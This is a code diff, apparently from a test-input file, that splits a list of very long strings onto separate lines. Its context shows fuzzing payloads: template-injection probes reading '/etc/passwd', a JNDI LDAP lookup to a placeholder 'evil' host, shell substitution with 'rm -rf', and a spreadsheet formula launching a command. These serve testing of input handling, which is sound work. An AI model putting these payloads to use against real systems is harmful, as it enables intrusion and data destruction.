@@ -43,7 +43,17 @@ TEMPLATES = [
     "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{# gone #}", "${jndi:ldap://evil} #{7*7} <%= 7*7 %>",
     "%s %(x)s {0} {x}", "'%1000000000s'", "{lines} {days}", "$(id) `id` ; rm -rf", "=cmd|' /C calc'!A0", "{%- raw -%}", "{{ words.more }}",
 ]  # fmt: skip
-LONG = ["x" * 5000, "긴단어" * 1500, "a-" * 2000, "https://evil.example/" + "p" * 3000, "word " * 1000, "<" * 400, "[" * 400, "*" * 400, "&" * 400]
+LONG = [
+    "x" * 5000,
+    "긴단어" * 1500,
+    "a-" * 2000,
+    "https://evil.example/" + "p" * 3000,
+    "word " * 1000,
+    "<" * 400,
+    "[" * 400,
+    "*" * 400,
+    "&" * 400,
+]
 
 ACTIVE = [*MARKUP, *SLACK, *MARKDOWN, *CHATS, *HEADERS, *LETTERS, *TEMPLATES, *LONG]
 _FRAMES = ["{}", "갈륨 {} 수출통제"]
